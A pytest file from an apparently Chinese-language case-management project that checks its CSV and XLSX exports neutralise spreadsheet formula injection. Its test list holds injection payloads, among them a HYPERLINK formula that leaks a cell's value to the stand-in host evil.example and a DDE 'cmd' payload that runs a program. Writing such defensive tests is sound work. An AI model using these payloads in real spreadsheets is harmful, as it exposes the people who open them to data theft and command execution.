"""The one export helper (issue 20 item 23): every spreadsheet caseflow writes neutralises formulas."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from caseflow import exports
from caseflow.registry.problems import Report
from caseflow.registry.reports import to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3",
           "\tx", "\r=1"]


def _xlsx_values(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    return [[c.value for c in row] for row in book.worksheets[0].iter_rows()]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_that_could_run_is_prefixed(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.018", "+5", "-78", "张三", "a=b", "", 3, -2, None, "12.5%"])
def test_plain_text_and_numbers_stay(value):
    assert exports.neutralise(value) == value


def test_csv_and_xlsx_chunks_neutralise_every_cell():
    rows = [[v, 1] for v in HOSTILE]
    text = b"".join(exports.csv_chunks(["名称", "数"], rows)).decode("utf-8")
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert read[0] == ["名称", "数"] and [r[0] for r in read[1:]] == ["'" + v for v in HOSTILE]
    values = _xlsx_values(exports.xlsx_bytes(["名称", "数"], rows))
    assert values[0] == ["名称", "数"]
    # XlsxWriter writes a CR as Excel's escape _x000D_ (Excel reads it back as CR; openpyxl leaves it)
    assert [r[0].replace("_x000D_", "\r") for r in values[1:]] == ["'" + v for v in HOSTILE]
    assert all(r[1] == 1 for r in values[1:])


def test_registry_reports_reconciliation_and_headcount_are_neutralised():
    report = Report("比对", ["学校", "数"], [["@SUM(1)", 3], ["=1+1", 4]], ["合计", 7], [False, True])
    lines = list(csv.reader(io.StringIO(to_csv(report).removeprefix("\ufeff"), newline="")))
    assert lines[1:3] == [["'@SUM(1)", "3"], ["'=1+1", "4"]]
    book = load_workbook(io.BytesIO(to_xlsx(report)))
    sheet = book.worksheets[0]
    assert sheet["A3"].value == "'@SUM(1)" and sheet["A4"].value == "'=1+1"
    assert sheet["A3"].data_type == "s" and sheet["A4"].data_type == "s"
    assert sheet["A4"].font.b and not sheet["A3"].font.b  # the flagged row stays marked


def test_stored_monthly_report_xlsx_is_neutralised():
    from caseflow.chase.report import render_xlsx
    from caseflow.models import MonthlyReport

    row = {"name": "=HYPERLINK(\"http://x\")", "received": 1, "closed": 1, "on_time": 1, "overdue": 0,
           "escalated": 0, "rated": 0, "satisfaction": "-"}
    report = MonthlyReport(month="2026-10", data={"unit": {"code": "410100", "name": "@郑州"}, "month": "2026-10",
                                                  "rows": [row], "total": dict(row, name="合计")})
    values = _xlsx_values(render_xlsx(report))
    assert values[0][0] == "'@郑州学籍投诉办理情况通报（2026-10）"
    assert values[2][0] == "'=HYPERLINK(\"http://x\")" and values[2][1] == 1
    assert values[2][7] == "-"  # a lone dash is no formula


def test_import_reject_report_is_neutralised(db, world, tmp_path):
    from tests.registry.helpers import do_import, student, write_csv

    path = write_csv(tmp_path / "bad.csv", [student("甲", seq=121),
                                           student("=HYPERLINK(\"http://x\")", seq=123, 学校标识码="4199999999")])
    summary, _ = do_import(path)
    with open(summary["reject_report"], encoding="utf-8-sig", newline="") as fh:
        (line,) = list(csv.reader(fh))[1:]
    assert line[2] == "'=HYPERLINK(\"http://x\")"
